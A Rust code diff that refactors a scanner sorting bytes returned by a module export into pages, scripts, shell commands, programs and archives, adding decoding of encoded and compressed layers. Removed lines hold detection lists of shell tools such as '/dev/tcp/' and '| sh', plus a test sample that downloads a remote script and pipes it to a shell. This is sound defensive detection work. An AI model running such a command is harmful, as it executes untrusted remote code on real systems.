@@ -9,24 +9,12 @@ use std::collections::BTreeSet;
 
 use sha2::{Digest as _, Sha256};
 
-use super::limits::{RETURNED_BYTES, RETURNED_KEPT, RETURNED_SCAN, RETURNED_SCANNED};
-use crate::{Value, text::vocabulary};
-
-vocabulary! {
-    /// What returned bytes are.
-    pub enum Contents {
-        /// HTML.
-        Page = "page",
-        /// JavaScript.
-        Script = "script",
-        /// A command line, or a script of a shell.
-        Command = "command",
-        /// An ELF or PE file.
-        Program = "program",
-        /// A compressed file or an archive.
-        Archive = "archive",
-    }
-}
+use super::{
+    contents::Contents,
+    layers::{self, DEPTH},
+    limits::{RETURNED_BYTES, RETURNED_KEPT, RETURNED_SCAN, RETURNED_SCANNED},
+};
+use crate::Value;
 
 /// What an export returned.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -38,15 +26,28 @@ pub struct Returned {
 }
 
 /// Letters of text that is looked at; shorter ones are words.
-const LEAST: usize = 24;
+pub(super) const LEAST: usize = 24;
 /// An address below this is a number.
 const FIRST_ADDRESS: u64 = 64;
 
 impl Returned {
     /// What bytes are, if they are any of it.
     pub(crate) fn of(bytes: Vec<u8>) -> Option<Self> {
-        let contents = program(&bytes).or_else(|| archive(&bytes)).or_else(|| text(&bytes))?;
+        let contents = Contents::of(&bytes)?;
         Some(Self { contents, bytes })
+    }
+
+    /// What stands in bytes or behind layers of encoding; an archive only if nothing is behind it.
+    fn behind(bytes: Vec<u8>, depth: usize, of: fn(&[u8]) -> Option<Contents>) -> Option<Self> {
+        let plain = of(&bytes);
+        let is_plain = plain.is_some_and(|contents| contents != Contents::Archive);
+        if !is_plain && depth > 0 {
+            let found = layers::peel(&bytes).find_map(|inner| Self::behind(inner, depth - 1, of));
+            if let Some(found) = found.filter(|found| found.contents != Contents::Archive) {
+                return Some(found);
+            }
+        }
+        Some(Self { contents: plain?, bytes })
     }
 }
 
@@ -76,11 +77,47 @@ impl Returns {
             self.scanned += 256;
             for bytes in readings(head, len.is_some()).into_iter().flatten() {
                 self.scanned += bytes.len();
-                if let Some(returned) = Returned::of(bytes) {
+                if let Some(returned) = Returned::behind(bytes, DEPTH, Contents::of) {
                     self.keep(returned);
                     break;
                 }
             }
+        }
+    }
+
+    /// Looks at what came in several calls.
+    pub(super) fn take(&mut self, bytes: &[u8]) {
+        if bytes.len() >= LEAST
+            && let Some(found) = Returned::behind(bytes.to_vec(), DEPTH, Contents::of_handed)
+        {
+            self.keep_found(found);
+        }
+    }
+
+    /// Looks at what an argument points at, if it is no text that stands there openly.
+    pub(super) fn take_hidden(&mut self, bytes: &[u8], has_len: bool) {
+        for plain in readings(bytes, has_len).into_iter().flatten() {
+            let is_open = bytes.starts_with(&plain) && std::str::from_utf8(&plain).is_ok();
+            let found = Returned::behind(plain, DEPTH, Contents::of_handed);
+            let is_shown = |found: &Returned| is_open && bytes.starts_with(&found.bytes);
+            if let Some(found) = found.filter(|found| !is_shown(found)) {
+                self.keep_found(found);
+            }
+        }
+    }
+
+    /// Looks at a whole thing.
+    pub(super) fn take_whole(&mut self, bytes: &[u8]) {
+        let text = layers::wide(bytes).unwrap_or_else(|| bytes.to_vec());
+        if let Some(found) = Contents::of_handed(&text).map(|contents| Returned { contents, bytes: text }) {
+            self.keep_found(found);
+        }
+    }
+
+    /// An archive is what it is: many compress what they hand over.
+    fn keep_found(&mut self, found: Returned) {
+        if found.contents != Contents::Archive {
+            self.keep(found);
         }
     }
 
@@ -135,8 +172,9 @@ fn pair_at(memory: &[u8], address: u64) -> Option<(u64, Option<usize>)> {
 
 /// The bytes as they stand, as text up to its end, and as UTF-16.
 fn readings(head: &[u8], has_len: bool) -> [Option<Vec<u8>>; 2] {
-    let is_binary = program(head).or_else(|| archive(head)).is_some();
-    if is_binary {
+    // Of a known length it may be packed.
+    let is_packed = has_len && matches!(head, [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..]);
+    if Contents::is_binary(head) || is_packed {
         return [Some(head.to_vec()), None];
     }
     let is_text = |byte: &u8| *byte >= b' ' && *byte != 0x7f || matches!(byte, b'\t' | b'\n' | b'\r' | 0x0c);
@@ -144,91 +182,8 @@ fn readings(head: &[u8], has_len: bool) -> [Option<Vec<u8>>; 2] {
     // Of a known length all of it is text, or a zero ends it.
     let is_whole = !has_len || head.get(len).is_none_or(|byte| *byte == 0);
     let utf8 = head.get(..len).filter(|text| text.len() >= LEAST && is_whole).map(<[u8]>::to_vec);
-    let units = head.as_chunks::<2>().0.iter().map(|pair| u16::from_le_bytes(*pair));
-    let wide: Vec<u16> = units.take_while(|unit| *unit >= 9).collect();
-    let utf16 = (utf8.is_none() && wide.len() >= LEAST).then(|| String::from_utf16_lossy(&wide).into_bytes());
+    let utf16 = if utf8.is_none() { layers::wide(head).or_else(|| layers::codes(head)) } else { None };
     [utf8, utf16]
-}
-
-fn program(bytes: &[u8]) -> Option<Contents> {
-    let is_elf = matches!(bytes, [0x7f, b'E', b'L', b'F', 1 | 2, 1 | 2, 1, ..]);
-    let pe = || {
-        let at = u32::from_le_bytes(*bytes.get(0x3c..)?.first_chunk()?) as usize;
-        bytes.get(at..)?.starts_with(b"PE\0\0").then_some(())
-    };
-    let is_program = is_elf || bytes.starts_with(b"MZ") && pe().is_some();
-    is_program.then_some(Contents::Program)
-}
-
-fn archive(bytes: &[u8]) -> Option<Contents> {
-    let is_one = matches!(
-        bytes,
-        [b'P', b'K', 3, 4, ..=63, ..]
-            | [0x1f, 0x8b, 8, ..=31, ..]
-            | [b'7', b'z', 0xbc, 0xaf, 0x27, 0x1c, ..]
-            | [0xfd, b'7', b'z', b'X', b'Z', 0, ..]
-            | [b'B', b'Z', b'h', b'1'..=b'9', b'1', b'A', b'Y', b'&', ..]
-            | [b'R', b'a', b'r', b'!', 0x1a, 7, ..]
-            | [0x28, 0xb5, 0x2f, 0xfd, ..]
-    );
-    is_one.then_some(Contents::Archive)
-}
-
-/// A page of HTML has one of these.
-const TAGS: &[&str] = &[
-    "<!doctype html",
-    "<html",
-    "<head>",
-    "<body",
-    "<script",
-    "<iframe",
-    "<form ",
-    "<meta http-equiv",
-    "<embed ",
-    "<object ",
-];
-/// A command of a shell has one of these.
-const COMMANDS: &[&str] = &[
-    "powershell",
-    "cmd /c",
-    "cmd.exe /c",
-    "/bin/sh -c",
-    "/bin/bash -c",
-    "/dev/tcp/",
-    "| sh",
-    "| bash",
-    "mshta ",
-];
-/// What a script does: it has one of these, and others that show that it is code.
-const ACTS: &[&str] = &[
-    "document.",
-    "window.",
-    "eval(",
-    "atob(",
-    "location.",
-    "location=",
-    "fetch(",
-    "xmlhttprequest",
-    "importscripts(",
-    "require(",
-    "fromcharcode",
-    "new function(",
-];
-/// What stands in code of all kinds.
-const CODE: &[&str] = &["function", "=>", "var ", "let ", "const ", "();", "return ", "){"];
-
-fn text(bytes: &[u8]) -> Option<Contents> {
-    let lower = std::str::from_utf8(bytes).ok()?.to_lowercase();
-    let count = |words: &[&str]| words.iter().filter(|word| lower.contains(**word)).count();
-    if count(TAGS) > 0 {
-        return Some(Contents::Page);
-    }
-    if lower.starts_with("#!/") || count(COMMANDS) > 0 {
-        return Some(Contents::Command);
-    }
-    // Prose has the words too, and not the marks.
-    let is_code = lower.contains('(') && lower.contains(';');
-    (is_code && count(ACTS) > 0 && count(CODE) + count(ACTS) >= 3).then_some(Contents::Script)
 }
 
 #[cfg(test)]
@@ -269,22 +224,6 @@ mod tests {
             assert_eq!(found(&args, &results, &memory), [Contents::Page], "{args:?} {results:?}");
         }
         assert_eq!(found(&[], &[Value::I32(7)], &memory), []);
-    }
-
-    #[test]
-    fn what_bytes_are() {
-        let of = |bytes: &[u8]| Returned::of(bytes.to_vec()).map(|returned| returned.contents);
-        assert_eq!(of(b"var a = document.createElement('a'); a.click();"), Some(Contents::Script));
-        assert_eq!(of(b"curl http://192.0.2.1/x | sh -s now"), Some(Contents::Command));
-        assert_eq!(of(b"PK\x03\x04\x14\0\0\0\x08\0"), Some(Contents::Archive));
-        assert_eq!(of(b"\x7fELF\x02\x01\x01\0"), Some(Contents::Program));
-        for plain in [
-            &b"See the window. It is a function of the document, let us say."[..],
-            b"<p>Some <em>marked</em> text of the user</p>",
-            b"MZ, and that is all there is of it",
-        ] {
-            assert_eq!(of(plain), None, "{}", String::from_utf8_lossy(plain));
-        }
     }
 
     #[test]
